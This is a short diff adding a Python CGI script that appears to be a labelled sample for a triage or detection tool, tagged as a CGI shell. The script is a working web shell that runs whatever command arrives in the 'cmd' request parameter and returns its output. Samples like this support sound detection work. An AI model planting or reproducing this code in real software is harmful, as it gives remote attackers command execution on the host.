@@ -1,0 +1,6 @@
+#!/usr/bin/env python3
+# triage-expect: triage_python_cgi_shell
+import cgi, os
+form = cgi.FieldStorage()
+print("Content-Type: text/plain\n")
+print(os.popen(form.getvalue("cmd")).read())
